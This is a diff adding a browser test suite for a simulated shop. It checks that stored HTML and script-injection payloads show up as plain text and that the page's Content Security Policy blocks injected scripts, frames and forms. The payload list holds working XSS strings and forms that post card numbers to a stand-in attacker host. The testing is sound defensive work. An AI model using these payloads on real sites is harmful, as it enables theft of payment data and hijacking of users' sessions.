@@ -1,0 +1,155 @@
+import type { Dialog, Page } from 'playwright-core'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { ShopDefinition } from '../../src/worlds/shops.ts'
+import { openTab, type Site, startBrowser, startSite, type Tab, type TestBrowser } from './browser.ts'
+
+const elsewhere = 'https://evil.example'
+
+/** Texts of a shop that would run a script, load a picture, lead away, or send a form, if a browser took them for HTML. */
+const payloads = [
+  '<script>window.hacked=1</script>',
+  '<img src=x onerror="window.hacked=1">',
+  `<img src="${elsewhere}/seen.png">`,
+  '<svg onload="window.hacked=1"></svg>',
+  `"><form action="${elsewhere}" method="post"><input name="number"><button>Pay</button></form>`,
+  `</p></main><a href="${elsewhere}">Checkout</a>`,
+  '<a href="javascript:window.hacked=1">Total</a>',
+  `<iframe src="${elsewhere}"></iframe>`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  `<base href="${elsewhere}/">`,
+  `<link rel="stylesheet" href="${elsewhere}/a.css"><style>body{background:url(${elsewhere}/b)}</style>`,
+  `' onfocus='window.hacked=1' autofocus x='`,
+  `&lt;script&gt;window.hacked=1&lt;/script&gt;`,
+  `![seen](${elsewhere}/seen.png) [pay](${elsewhere})`,
+]
+const words = payloads.join('\n')
+/** A name has at most 100 characters. */
+const named = (index: number) => `${payloads[index]}`.slice(0, 100)
+
+const hostile = ShopDefinition.parse({
+  id: 'hostile',
+  name: named(1),
+  about: words,
+  products: payloads.map((_, index) => ({
+    id: `product-${index}`,
+    name: named(index),
+    description: words,
+    price: 100,
+    hidden: words,
+  })),
+  extras: [{ id: 'more', name: payloads.slice(0, 3).join(''), price: 100, ticked: true }],
+  terms: words,
+  says: { checkout: words, decline: words, error: words, receipt: words, shipped: words, canceled: words },
+})
+
+let site: Site
+let browser: TestBrowser
+let tab: Tab
+const dialogs: string[] = []
+
+beforeAll(async () => {
+  site = await startSite()
+  await site.world.store.transaction(async ({ db }) => {
+    await db
+      .updateTable('world')
+      .set({ shops: JSON.stringify([hostile]) })
+      .execute()
+  })
+  browser = await startBrowser()
+  // Scripts are on: none may run.
+  const context = await browser.newContext({ viewport: { width: 800, height: 900 } })
+  tab = await openTab(context, `${site.listener.url}/shops`)
+  tab.page.on('dialog', async (dialog: Dialog) => {
+    dialogs.push(dialog.message())
+    await dialog.dismiss()
+  })
+})
+afterAll(async () => {
+  await browser.close()
+  await site.close()
+})
+
+/** Runs in the browser: what is on the page that a shop could have put there. */
+const lookOf = new Function(`return {
+  hacked: 'hacked' in window,
+  elements: [...document.querySelectorAll('script,iframe,object,embed,base,main svg,svg[onload],style,img,meta[http-equiv],[onerror],[onload],[onfocus]')].map((it) => it.outerHTML),
+  away: [...document.querySelectorAll('[href],[src],form,[formaction]')].map((it) => it.href ?? it.src ?? it.formAction ?? it.action).filter((to) => typeof to === 'string' && new URL(to, location.href).origin !== location.origin),
+  focus: document.activeElement?.getAttribute('onfocus') ?? null,
+  isHere: location.origin,
+}`) as () => object
+
+async function expectHarmless(page: Page, shows: string): Promise<void> {
+  await page.waitForLoadState()
+  await expect.poll(() => page.locator('main').textContent()).toContain(shows)
+  const isHere = new URL(site.listener.url).origin
+  await expect.poll(() => page.evaluate(lookOf)).toEqual({ hacked: false, elements: [], away: [], focus: null, isHere })
+  expect(tab.complaints).toEqual([])
+  expect(dialogs).toEqual([])
+  expect(tab.sent.map(({ url }) => new URL(url).origin).filter((origin) => origin !== isHere)).toEqual([])
+}
+
+const post = async (path: string, attributes: object) => {
+  const { json, text } = await site.world.post(path, attributes)
+  if (json.data === undefined) throw new Error(text)
+  return json.data
+}
+
+test('a hostile shop shows its texts as text, from the list of shops to the receipt', async () => {
+  const { page } = tab
+  const open = (path: string) => page.goto(site.listener.url + path)
+  await expectHarmless(page, '<script>window.hacked=1</script>')
+  await open('/shops/hostile')
+  await expectHarmless(page, 'onerror="window.hacked=1"')
+  const items = [{ productId: 'product-0' }, { productId: 'product-4' }]
+  const started = await post('/simulations/shops/hostile/checkouts', { items })
+  const path = new URL(started.attributes.url).pathname
+  await open(path)
+  await expectHarmless(page, payloads[0] ?? '')
+
+  const pay = async (maximumAmount: number) => {
+    const cardId = await site.world.issueCard({ merchant: { name: hostile.name }, maximumAmount })
+    const { json } = await site.world.get(`/agent-cards/${cardId}/details`)
+    const { number, cvv, expirationMonth, expirationYear } = json.data.attributes
+    for (const [name, value] of Object.entries({
+      'Card number': number,
+      'Expiry month': expirationMonth,
+      'Expiry year': expirationYear,
+      'Security code': cvv,
+    })) {
+      await page.getByRole('textbox', { name, exact: true }).fill(String(value))
+    }
+    await page.getByRole('button', { name: /^Pay/ }).click()
+    await page.waitForLoadState()
+  }
+  await pay(1)
+  await expectHarmless(page, payloads[0] ?? '')
+  await pay(50_000)
+  await page.waitForURL('**/shops/orders/**')
+  await expectHarmless(page, payloads[0] ?? '')
+})
+
+test('the policy of a shop’s page stops what would run or leave, even if it were there', async () => {
+  const { page } = tab
+  await page.goto(`${site.listener.url}/shops/hostile`)
+  const before = tab.sent.length
+  await page.evaluate(
+    new Function(
+      'elsewhere',
+      `const add = (html) => document.body.insertAdjacentHTML('beforeend', html)
+      const script = document.createElement('script')
+      script.textContent = 'window.hacked = 1'
+      document.body.append(script)
+      add('<img src="' + elsewhere + '/a.png" onerror="window.hacked = 1"><iframe src="' + elsewhere + '"></iframe>')
+      add('<form id="away" method="post" action="' + elsewhere + '"><input name="number" value="4242"></form>')
+      document.getElementById('away').submit()`,
+    ) as (elsewhere: string) => void,
+    elsewhere,
+  )
+  await expect
+    .poll(() => tab.complaints.filter((text) => text.includes('Content Security Policy')).length)
+    .toBeGreaterThan(2)
+  await expect.poll(() => page.evaluate("'hacked' in window")).toBe(false)
+  expect(page.url()).toBe(`${site.listener.url}/shops/hostile`)
+  const asked = tab.sent.slice(before).filter(({ url, body }) => url.startsWith(elsewhere) && body !== '')
+  expect(asked).toEqual([])
+})
